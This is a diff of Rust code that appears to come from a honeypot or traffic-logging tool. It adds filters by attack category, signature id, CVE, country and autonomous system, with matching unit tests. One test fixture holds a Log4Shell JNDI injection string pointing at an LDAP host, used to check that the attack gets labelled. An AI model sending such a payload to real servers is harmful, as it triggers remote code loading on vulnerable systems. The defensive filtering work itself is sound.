@@ -4,7 +4,7 @@
 
 use std::net::IpAddr;
 
-use forever200_identify::Protocol;
+use forever200_identify::{Category, Label, Origin, Protocol};
 use ipnet::IpNet;
 use memchr::memmem::Finder;
 use serde::{Deserialize, Serialize};
@@ -23,6 +23,17 @@ pub struct FilterQuery {
     pub source: String,
     /// The name of a protocol.
     pub protocol: String,
+    /// The name of a category.
+    pub category: String,
+    /// The id of a signature.
+    pub label: String,
+    /// A CVE number, in any case.
+    pub cve: String,
+    /// The code of a country, in any case.
+    pub country: String,
+    /// The number of an autonomous system, with or without `AS`.
+    #[serde(rename = "as")]
+    pub asn: String,
     /// What the target begins with.
     pub path: String,
     /// `on`: only requests that are not whole.
@@ -40,6 +51,11 @@ impl FilterQuery {
             ("method", &self.method),
             ("source", &self.source),
             ("protocol", &self.protocol),
+            ("category", &self.category),
+            ("label", &self.label),
+            ("cve", &self.cve),
+            ("country", &self.country),
+            ("as", &self.asn),
             ("path", &self.path),
             ("incomplete", &self.incomplete),
             ("body", &self.body),
@@ -56,6 +72,11 @@ pub struct Filter {
     method: String,
     source: Option<IpNet>,
     protocol: Option<Protocol>,
+    category: Option<Category>,
+    label: String,
+    cve: String,
+    country: String,
+    asn: Option<u32>,
     path: String,
     incomplete: bool,
     body: bool,
@@ -72,6 +93,11 @@ impl Filter {
             method: query.method.trim().to_owned(),
             source: network(query.source.trim())?,
             protocol: protocol(query.protocol.trim())?,
+            category: category(query.category.trim())?,
+            label: query.label.trim().to_owned(),
+            cve: query.cve.trim().to_owned(),
+            country: query.country.trim().to_owned(),
+            asn: asn(query.asn.trim())?,
             path: query.path.trim().to_owned(),
             incomplete: switch("incomplete", &query.incomplete)?,
             body: switch("body", &query.body)?,
@@ -85,8 +111,24 @@ impl Filter {
         (!self.incomplete || entry.incomplete)
             && self.protocol.is_none_or(|protocol| protocol == entry.protocol)
             && self.source.is_none_or(|source| source.contains(&canonical(entry.record.src_ip)))
+            && self.matches_labels(&entry.labels)
+            && self.matches_origin(entry.origin.as_ref())
             && (!of_http || self.matches_http(entry))
             && self.matches_text(&entry.record.raw)
+    }
+
+    fn matches_labels(&self, labels: &[Label]) -> bool {
+        let mut signatures = labels.iter().map(|label| &label.signature);
+        self.category.is_none_or(|category| signatures.clone().any(|it| it.categories().any(|it| it == category)))
+            && (self.label.is_empty() || signatures.clone().any(|it| it.id == self.label))
+            && (self.cve.is_empty()
+                || signatures.any(|it| it.cve.iter().any(|cve| cve.eq_ignore_ascii_case(&self.cve))))
+    }
+
+    fn matches_origin(&self, origin: Option<&Origin>) -> bool {
+        let country = origin.and_then(|origin| origin.country.as_deref());
+        (self.country.is_empty() || country.is_some_and(|country| country.eq_ignore_ascii_case(&self.country)))
+            && self.asn.is_none_or(|asn| origin.and_then(|origin| origin.asn) == Some(asn))
     }
 
     fn matches_text(&self, raw: &[u8]) -> bool {
@@ -119,13 +161,27 @@ fn canonical(ip: IpAddr) -> IpAddr {
 }
 
 fn protocol(name: &str) -> Result<Option<Protocol>, String> {
-    let found = Protocol::ALL.into_iter().find(|protocol| protocol.name() == name);
-    match found {
+    named("protocol", name, &Protocol::ALL, Protocol::name)
+}
+
+fn category(name: &str) -> Result<Option<Category>, String> {
+    named("category", name, &Category::ALL, Category::name)
+}
+
+fn named<T: Copy>(field: &str, name: &str, all: &[T], name_of: fn(T) -> &'static str) -> Result<Option<T>, String> {
+    match all.iter().copied().find(|&it| name_of(it) == name) {
         None if !name.is_empty() => {
-            Err(format!("protocol: expected one of {}", Protocol::ALL.map(Protocol::name).join(", ")))
+            let names: Vec<_> = all.iter().copied().map(name_of).collect();
+            Err(format!("{field}: expected one of {}", names.join(", ")))
         }
         found => Ok(found),
     }
+}
+
+fn asn(number: &str) -> Result<Option<u32>, String> {
+    let digits = number.strip_prefix("AS").or_else(|| number.strip_prefix("as")).unwrap_or(number);
+    let parsed = digits.parse().map(Some);
+    if number.is_empty() { Ok(None) } else { parsed.map_err(|_| "as: expected a number, as AS64496".to_owned()) }
 }
 
 fn switch(name: &str, value: &str) -> Result<bool, String> {
@@ -181,11 +237,11 @@ fn one_escape(after: &str) -> Option<(Vec<u8>, &str)> {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::entry::tests::record;
+    use crate::entry::tests::{entry, record};
     use crate::printable;
 
     fn matches(query: FilterQuery, raw: &[u8]) -> bool {
-        Filter::new(&query).unwrap().matches(&Entry::new(record(raw), 1))
+        Filter::new(&query).unwrap().matches(&entry(record(raw)))
     }
 
     const POST: &[u8] = b"POST /a/b?c=d HTTP/1.1\r\nHost: Example\r\nContent-Length: 4\r\n\r\n\xff\\x4";
@@ -208,11 +264,36 @@ mod tests {
             (FilterQuery { path: "/b".into(), ..all() }, false),
             (FilterQuery { incomplete: "on".into(), ..all() }, false),
             (FilterQuery { body: "on".into(), ..all() }, true),
+            (FilterQuery { category: "exploit".into(), ..all() }, false),
+            (FilterQuery { label: "x".into(), ..all() }, false),
+            (FilterQuery { cve: "CVE-2021-44228".into(), ..all() }, false),
+            (FilterQuery { country: "NL".into(), ..all() }, false),
+            (FilterQuery { asn: "64496".into(), ..all() }, false),
             (FilterQuery { method: "POST".into(), path: "/x".into(), ..all() }, false),
         ] {
             assert_eq!(matches(query.clone(), POST), met, "{query:?}");
         }
         assert!(!matches(FilterQuery { path: "/".into(), ..all() }, b"\x16\x03\x01"));
+    }
+
+    #[test]
+    fn labels_and_origin_are_conditions() {
+        let raw = b"GET /?x=${jndi:ldap://198.51.100.1/a} HTTP/1.1\r\n\r\n";
+        let origin = Origin { country: Some("NL".into()), asn: Some(64496), ..Origin::default() };
+        let log4shell = Entry { origin: Some(origin), ..entry(record(raw)) };
+        let all = FilterQuery::default;
+        for (query, met) in [
+            (FilterQuery { category: "exploit".into(), ..all() }, true),
+            (FilterQuery { category: "login".into(), ..all() }, false),
+            (FilterQuery { cve: "cve-2021-44228".into(), ..all() }, true),
+            (FilterQuery { cve: "CVE-2021-4422".into(), ..all() }, false),
+            (FilterQuery { label: log4shell.labels[0].signature.id.clone(), ..all() }, true),
+            (FilterQuery { country: "nl".into(), asn: "AS64496".into(), ..all() }, true),
+            (FilterQuery { country: "DE".into(), ..all() }, false),
+            (FilterQuery { asn: "64497".into(), ..all() }, false),
+        ] {
+            assert_eq!(Filter::new(&query).unwrap().matches(&log4shell), met, "{query:?}");
+        }
     }
 
     #[test]
@@ -249,6 +330,8 @@ mod tests {
                 FilterQuery { protocol: "gopher".into(), ..FilterQuery::default() },
                 "protocol: expected one of http, tls",
             ),
+            (FilterQuery { category: "evil".into(), ..FilterQuery::default() }, "category: expected one of exploit, "),
+            (FilterQuery { asn: "AS-1".into(), ..FilterQuery::default() }, "as: "),
             (FilterQuery { body: "maybe".into(), ..FilterQuery::default() }, "body: "),
         ] {
             let error = Filter::new(&query).unwrap_err();
